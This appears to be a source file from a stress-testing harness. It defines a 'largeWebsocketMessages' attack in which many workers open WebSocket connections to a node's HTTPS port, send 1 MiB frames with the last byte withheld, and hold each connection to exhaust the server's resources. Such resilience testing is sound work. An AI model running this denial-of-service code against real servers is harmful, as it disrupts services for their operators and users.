import { type Attack, createAssault } from './attack.ts'
import { openWebSocket } from './websocket.ts'

const messageBytes = 1024 * 1024
/** How long the attacker holds a connection, milliseconds. By default, a node waits as long for a CONNECT. */
const holdMs = 10_000
/** The part of a message that the attacker writes at once. */
const part = Buffer.alloc(64 * 1024)

/** Before their CONNECT, clients send WebSocket messages of 1 MiB without the last byte. */
export const largeWebsocketMessages: Attack = (target, force) => {
  const assault = createAssault(force)
  // A binary message with a mask of zeros, which changes no byte.
  const header = Buffer.alloc(14)
  header.set([0x82, 0xff])
  header.writeUInt32BE(messageBytes, 6)
  return assault.everywhere(async (worker) => {
    const socket = await openWebSocket(assault, target.httpsPort, worker)
    if (!socket) return
    let isGoing = await assault.write(socket, header)
    for (let left = messageBytes - 1; isGoing && left > 0; left -= part.length) {
      isGoing = await assault.write(socket, part.subarray(0, Math.min(part.length, left)), 5_000)
    }
    if (isGoing) assault.seen.units++
    await assault.hold(socket, holdMs)
    assault.leave(socket)
  })
}
